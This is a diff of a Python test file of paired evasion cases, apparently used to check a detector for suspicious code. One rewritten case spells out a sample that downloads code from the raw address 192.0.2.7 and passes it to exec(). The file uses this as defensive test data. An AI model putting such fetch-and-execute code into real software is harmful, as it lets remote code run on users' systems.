@@ -2,9 +2,9 @@
 
 from __future__ import annotations
 
-from tests.evasions.sample import CODE, FETCH, SUSPICIOUS, Evasion, evasion
+from tests.evasions.sample import CODE, SUSPICIOUS, Evasion, evasion
 
-_GET = "import urllib.request as u\n\ndef get():\n    return u.urlopen('http://192.0.2.7/a').read()\n\n"
+_GET = "import urllib.request as u\n\ndef get():\n    return u.urlopen('https://stage.example.invalid/a').read()\n\n"
 _OK = "def get():\n    return 'x = 1'\n\n"
 
 
@@ -286,7 +286,7 @@ CASES = (
     ),
     evasion(
         "called only by the user, from a raw address",
-        f"def helper():\n    exec({FETCH})\n",
+        "import urllib.request as u\n\ndef helper():\n    exec(u.urlopen('http://192.0.2.7/a').read())\n",
         "import urllib.request\n\ndef helper():\n    return urllib.request.urlopen('https://api.example.invalid/').read()\n",
     ),
     evasion(
